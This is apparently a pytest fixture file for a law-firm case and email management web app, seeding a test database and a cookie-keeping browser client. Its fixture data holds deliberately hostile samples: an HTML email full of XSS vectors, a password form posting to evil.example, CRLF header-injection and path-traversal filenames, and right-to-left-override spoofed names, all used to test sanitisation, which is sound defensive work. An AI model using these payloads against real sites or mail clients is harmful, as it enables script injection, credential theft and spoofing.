from __future__ import annotations

import asyncio
import atexit
import base64
import functools
import json
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from casefleet_cli import clock
from casefleet_cli.core.spoofing.suspicions import key
from casefleet_cli.store import activities, database, settings
from casefleet_cli.web import server
from tests.firm import created

if TYPE_CHECKING:
    import sqlite3
    from pathlib import Path

BCC = "ada-7k3mq9x2vt4hc8wn@log.firm.example"
SECRET_SETTING = "pepper-of-the-house-93281"
RAW_MARKER = "x-raw-bytes-marker-5512"
HELD_MARKER = "heldsecretword"
REJECTED_MARKER = "rejectedsecretword"
FOREIGN_MARKER = "foreigncaseword"
ERASED_MARKER = "erasedword"
BASE = "http://127.0.0.1:8001"
ADA, BEN, LIM, GUEST, OFF = 1, 2, 3, 4, 5
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
HOSTILE_HTML = f"""<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/r">
<style>body{{background:url(http://evil.example/css)}}</style></head><body onload="alert(1)">
<script>document.title='owned'</script><p style="color:red;position:fixed;background:url(http://evil.example/bg)">Dear Ada</p>
<img src="http://evil.example/pixel.gif" onerror="alert(2)"><img src="//evil.example/p2.gif"><img src="cid:logo@x" alt="Logo">
<img src="data:image/svg+xml,<svg onload=alert(3)>"><a href="javascript:alert(4)">click</a>
<a href="data:text/html,<script>alert(5)</script>">data</a><a href="java&#x09;script:alert(6)">tab</a>
<a href="https://court.example/portal" onclick="steal()">portal</a>
<form action="http://evil.example/login"><input name="password"><button>Sign in</button></form>
<iframe src="http://evil.example/f"></iframe><object data="http://evil.example/o"></object><svg><script>alert(7)</script></svg>
<table background="http://evil.example/t"><tr><td>cell</td></tr></table><link rel="stylesheet" href="http://evil.example/l.css">
<p>log to {BCC} always</p></body></html>"""


def hostile_raw() -> bytes:
    lines = [
        b"From: Minh Nguyen <minh@nguyen.example>",
        b"To: Ada <ada@firm.example>",
        f"Cc: {BCC}".encode(),
        b"Subject: records",
        b"Message-ID: <m1@nguyen.example>",
        f"X-Secret: {RAW_MARKER}".encode(),
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="B"',
        b"",
        b"--B",
        b'Content-Type: multipart/related; boundary="R"',
        b"",
        b"--R",
        b"Content-Type: text/html; charset=utf-8",
        b"Content-Transfer-Encoding: base64",
        b"",
        base64.encodebytes(HOSTILE_HTML.encode()).strip(),
        b"--R",
        b"Content-Type: image/png",
        b"Content-ID: <logo@x>",
        b"Content-Disposition: inline",
        b"Content-Transfer-Encoding: base64",
        b"",
        base64.encodebytes(PNG).strip(),
        b"--R--",
        b"--B",
        b"Content-Type: text/html",
        b'Content-Disposition: attachment; filename="evil.html"',
        b"Content-Transfer-Encoding: base64",
        b"",
        base64.encodebytes(f"<script>alert(8)</script> {BCC}".encode()).strip(),
        b"--B",
        b"Content-Type: application/pdf",
        b'Content-Disposition: attachment; filename="records.pdf"',
        b"Content-Transfer-Encoding: base64",
        b"",
        base64.encodebytes(b"%PDF-1.7 \x00\xff records").strip(),
        b"--B--",
        b"",
    ]
    return b"\r\n".join(lines)


def fill(connection: sqlite3.Connection) -> None:
    """A small firm: plain rows, with secrets where they must not be seen and hostile text where it must not act."""
    at = "2026-11-17T08:00:00Z"

    def many(sql: str, rows: list[tuple[Any, ...]]) -> None:
        connection.executemany(sql, rows)

    settings.put(connection, "logging_domain", "log.firm.example")
    settings.put(connection, "cookie_pepper", SECRET_SETTING)
    many("INSERT INTO users (id, name, role, created_at, disabled_at) VALUES (?, ?, ?, ?, ?)", [
        (ADA, "Ada Berg", "standard", at, None), (BEN, "Ben Cole", "standard", at, None),
        (LIM, "Lia Limit", "limited", at, None), (GUEST, "Gus Guest", "guest", at, None),
        (OFF, "Olf Off", "admin", at, at),
    ])  # fmt: skip
    many("INSERT INTO sender_addresses (user_id, address) VALUES (?, ?)", [(ADA, "ada@firm.example")])
    many("INSERT INTO bcc_addresses (user_id, address, created_at) VALUES (?, ?, ?)", [(ADA, BCC, at)])
    many("INSERT INTO contacts (id, name, look, kind, note, created_at) VALUES (?, ?, ?, ?, ?, ?)", [
        (1, "Minh Nguyen", key("Minh Nguyen"), "person", "Prefers <i>mail</i>", at),
        (2, f"Claims Desk {FOREIGN_MARKER}", key(f"Claims Desk {FOREIGN_MARKER}"), "organisation", "", at),
    ])  # fmt: skip
    many("INSERT INTO contact_addresses (contact_id, address) VALUES (?, ?)",
         [(1, "minh@nguyen.example"), (2, "claims@baxter.example")])  # fmt: skip
    many("INSERT INTO cases (id, number, title, status, opened_at, closed_at) VALUES (?, ?, ?, ?, ?, ?)", [
        (1, "2026-104", "O'Neill v. <b>Baxter</b>", "open", at, None),
        (2, "2026-105", f"Petrov v. City {FOREIGN_MARKER}", "open", at, None),
        (3, "2025-001", "Old matter", "closed", at, at),
    ])  # fmt: skip
    many("INSERT INTO case_contacts (case_id, contact_id, role) VALUES (?, ?, ?)", [(1, 1, "client"), (2, 2, "")])
    many("INSERT INTO case_users (case_id, user_id) VALUES (?, ?)", [(1, ADA), (1, LIM), (1, GUEST)])
    many("INSERT INTO leads (id, name, status, stage, source, opened_at, ended_at, case_id) VALUES (?,?,?,?,?,?,?,?)", [
        (1, "K. Sato, wrongful dismissal", "converted", "", "web", at, at, 1),
        (2, f"New lead {FOREIGN_MARKER}", "open", "first call", "", at, None, None),
    ])  # fmt: skip
    many("INSERT INTO lead_contacts (lead_id, contact_id) VALUES (?, ?)", [(1, 1), (2, 2)])
    raw = hostile_raw()
    many("INSERT INTO raw_messages (id, sha256, size, content) VALUES (?, ?, ?, ?)",
         [(n, f"{n:064x}", len(raw), raw) for n in range(1, 8)])  # fmt: skip
    subjects = {
        1: ("linked", '<script>alert("subject")</script> records \u202egpj.exe', "linked body Hartley <img src=x onerror=alert(9)>\n> quoted"),
        2: ("unassigned", "Signed retainer", "unassigned body Hartley"),
        3: ("held", f"Held {HELD_MARKER}", f"held body {HELD_MARKER}"),
        4: ("rejected", f"Rejected {REJECTED_MARKER}", f"rejected body {REJECTED_MARKER}"),
        5: ("linked", f"Foreign {FOREIGN_MARKER}", f"foreign body {FOREIGN_MARKER}"),
        6: ("linked", None, "sent to the lead"),
        7: ("linked", "Re: records", "an answer about the 50% \ue000fake\ue001 deposit"),
    }  # fmt: skip
    forwards = json.dumps([{
        "kind": "inline", "from": {"name": "Grace <b>", "address": "grace@okafor.example"}, "subject": "Fwd", "date": None,
        "date_raw": "Tue, 17 Nov", "to": [{"name": "", "address": "x@y.example"}], "cc": [], "comment": "please file", "msgid": None,
    }])  # fmt: skip
    for number, (standing, subject, text) in subjects.items():
        connection.execute(
            "INSERT INTO emails (id, fingerprint, raw_message_id, standing, msgid, subject, from_name, from_address, sent_at,"
            " logged_at, text, people, filenames, has_html, forwards, defects, size) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
            (number, f"{number:064x}", number, standing, f"m{number}@nguyen.example", subject, "Minh <Nguyen>",
             "minh@nguyen.example", None if number == 6 else f"2026-11-1{number}T09:30:00Z", at, text,
             "Minh minh@nguyen.example", "evil.html", 1, forwards if number == 2 else "[]",
             '["date-unreadable", "msgid-collision"]' if number == 2 else "[]", len(raw)),
        )  # fmt: skip
        many("INSERT INTO email_recipients (email_id, kind, name, address) VALUES (?, ?, ?, ?)",
             [(number, "to", "Ada", "ada@firm.example"), (number, "cc", "", "***@log.firm.example")])  # fmt: skip
        many("INSERT INTO attachments (id, email_id, part, filename, content_type, size, content_id, is_inline)"
             " VALUES (?,?,?,?,?,?,?,?)", [
            (number * 10 + 1, number, "2", 'evil"\r\nSet-Cookie: a=b\u202e.html', "text/html", 30, None, 0),
            (number * 10 + 2, number, "3", "../../etc/Übersicht 訴訟.pdf", "application/pdf", 20, None, 0),
            (number * 10 + 3, number, "1.2", None, "image/png", 70, "logo@x", 1),
        ])  # fmt: skip
        owner = BEN if number in (3, 4) else ADA
        many("INSERT INTO deliveries (id, email_id, user_id, source, raw_message_id, standing, received_at)"
             " VALUES (?,?,?,?,?,?,?)", [(number, number, owner, "pipe", number, "held" if number == 3 else "routed", at)])  # fmt: skip
        verdicts = json.dumps([{"recipient": "claims@baxter.example", "contacts": [{"id": 2, "name": f"Desk {FOREIGN_MARKER}"}],
                                "open_cases": [{"id": 2, "number": "2026-105", "title": f"Petrov {FOREIGN_MARKER}"}],
                                "rule": "one-open-case", "place": {"kind": "case", "id": 2}}])  # fmt: skip
        outcome = {"held": "held", "unassigned": "unassigned"}.get(standing, "filed")
        connection.execute(
            "INSERT INTO decisions (id, delivery_id, email_id, as_of, outcome, reason, verdicts, decided_at)"
            " VALUES (?,?,?,?,?,?,?,?)",
            (number, number, number, "2026-11-09T10:00:00Z" if number == 6 else None, outcome,
             "not-sent-by-owner" if number == 3 else None, verdicts, at),
        )  # fmt: skip
    many("INSERT INTO email_contacts (email_id, contact_id, linked_by) VALUES (?, ?, 'rule')",
         [(n, 1) for n in range(1, 8)] + [(1, 2)])  # fmt: skip
    many("INSERT INTO email_cases (email_id, case_id, linked_by, decision_id, user_id, linked_at) VALUES (?,?,?,?,?,?)", [
        (1, 1, "rule", 1, None, at), (5, 2, "rule", 5, None, at), (7, 1, "person", None, ADA, at), (1, 2, "person", None, BEN, at),
    ])  # fmt: skip
    many("INSERT INTO email_leads (email_id, lead_id, linked_by, decision_id, user_id, linked_at) VALUES (?,?,?,?,?,?)",
         [(6, 1, "rule", 6, None, at)])  # fmt: skip
    many("INSERT INTO email_references (email_id, position, msgid) VALUES (?, ?, ?)", [(7, 0, "m1@nguyen.example")])
    happened = [
        (at, "added", ADA, None, None, None, None, BEN, "user"),
        (at, "opened", ADA, 1, None, None, None, None, ""),
        (at, "assigned", ADA, 1, None, 1, None, None, "client"),
        (at, "converted", ADA, 1, 1, None, None, None, ""),
        (at, "opened", ADA, 2, None, None, None, None, FOREIGN_MARKER),
        (at, "filed", None, 1, None, None, 1, ADA, ""),
        (at, "logged", None, None, None, None, 2, ADA, ""),
        (at, "held", None, None, None, None, 3, BEN, ""),
        (at, "rejected", BEN, None, None, None, 4, BEN, ""),
        (at, "filed", None, 2, None, None, 5, ADA, ""),
        ("2026-11-16T08:00:00Z", "filed", None, None, 1, None, 6, ADA, ""),
        ("2026-11-16T07:00:00Z", "linked", ADA, 1, None, None, 7, None, ""),
        ("2026-11-16T07:00:00Z", "stage-changed", BEN, None, 2, None, None, None, "first call"),
        ("2026-11-16T07:00:00Z", "edited", BEN, None, None, 1, None, None, ERASED_MARKER),
    ]  # fmt: skip
    salt = clock.salt()
    many("INSERT INTO activities (at, verb, user_id, case_id, lead_id, contact_id, email_id, about_user_id, digest)"
         " VALUES (?,?,?,?,?,?,?,?,?)",
         [(*row, activities.digest(salt, words) if words else None) for *row, words in happened])  # fmt: skip
    many("INSERT INTO activity_texts (activity_id, salt, text) VALUES (?, ?, ?)",
         [(number, salt, words) for number, (*_, words) in enumerate(happened, 1) if words])  # fmt: skip
    activities.erase(connection, len(happened), user_id=BEN)
    many("INSERT INTO notifications (user_id, kind, email_id, detail, created_at, read_at) VALUES (?,?,?,?,?,?)", [
        (ADA, "unassigned", 2, "", at, None), (BEN, "held", 3, "", at, None), (ADA, "exposed-address", 1, "", at, at),
        (ADA, "import-summary", None, "3 logged", at, None),
    ])  # fmt: skip


@pytest.fixture(scope="session")
def firm(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The database of a small firm."""
    path = tmp_path_factory.mktemp("firm") / "casefleet.db"
    connection = created(str(path))
    with database.transaction(connection):
        fill(connection)
    connection.close()
    return path


@functools.cache
def _loop() -> asyncio.Runner:
    """The loop that all browsers ask in, with its threads, as one server has them; to make one an answer takes as long."""
    runner = asyncio.Runner()
    atexit.register(runner.close)
    return runner


class Browser:
    """A client of the ASGI application that keeps its cookies."""

    def __init__(self, site: server.Site) -> None:
        self.site = site
        self.cookies: dict[str, str] = {}

    def ask(
        self,
        path: str,
        method: str = "GET",
        *,
        host: str | None = None,
        form: dict[str, str] | None = None,
        peer: str = "127.0.0.1",
        **headers: str,
    ) -> httpx.Response:
        async def once() -> httpx.Response:
            transport = httpx.ASGITransport(app=self.site.app, client=(peer, 40000))
            async with httpx.AsyncClient(transport=transport, base_url=BASE, cookies=self.cookies) as client:
                named = {name.replace("_", "-"): value.encode("latin-1") for name, value in headers.items()}
                if host is not None:
                    named["Host"] = host.encode("latin-1")
                return await client.request(method, BASE + path, headers=named, data=form)

        response = _loop().run(once())
        for name, value in response.cookies.items():
            self.cookies[name] = value
        if "Max-Age=0" in response.headers.get("set-cookie", ""):
            self.cookies.clear()
        return response

    def enter(self) -> Browser:
        response = self.ask(self.site.entrance)
        assert response.status_code == 303, response.text
        return self


@pytest.fixture
def stranger(firm: Path) -> Browser:
    return Browser(server.build(str(firm)))


@pytest.fixture
def admin(firm: Path) -> Browser:
    return Browser(server.build(str(firm))).enter()


@pytest.fixture
def as_user(firm: Path) -> Any:
    return lambda user_id: Browser(server.build(str(firm), user_id)).enter()
